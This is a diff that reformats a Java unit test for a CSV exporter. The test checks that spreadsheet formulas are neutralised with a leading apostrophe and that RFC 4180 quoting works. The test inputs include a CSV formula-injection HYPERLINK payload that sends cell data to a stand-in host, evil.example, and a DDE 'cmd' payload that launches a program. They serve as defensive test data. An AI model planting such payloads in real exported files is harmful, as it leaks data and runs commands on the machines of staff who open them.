@@ -8,12 +8,23 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/** Cells staff open in a spreadsheet: formulas arrive as text, everything else unchanged, RFC 4180 quoting. */
+/**
+ * Cells staff open in a spreadsheet: formulas arrive as text, everything else unchanged, RFC 4180
+ * quoting.
+ */
 class CsvTest {
 
   @ParameterizedTest
-  @ValueSource(strings = {"=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Call us\")", "=1+1", "+1+cmd|' /C calc'!A0",
-      "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"})
+  @ValueSource(
+      strings = {
+        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Call us\")",
+        "=1+1",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1"
+      })
   void anythingASpreadsheetCouldEvaluateGetsALeadingApostrophe(String hostile) {
     String cell = Csv.cell(hostile);
     assertThat(cell).startsWith("\"'" + hostile.charAt(0));
@@ -31,7 +42,8 @@ class CsvTest {
   void quotesCommasAndLineBreaksStayInsideTheirCell() throws Exception {
     StringWriter out = new StringWriter();
     Csv.writeRow(out, Arrays.asList("Ana \"Nana\" Test", "a,b", "line one\r\nline two", null, ""));
-    assertThat(out).hasToString("\"Ana \"\"Nana\"\" Test\",\"a,b\",\"line one\r\nline two\",\"\",\"\"\r\n");
+    assertThat(out)
+        .hasToString("\"Ana \"\"Nana\"\" Test\",\"a,b\",\"line one\r\nline two\",\"\",\"\"\r\n");
   }
 
   @Test
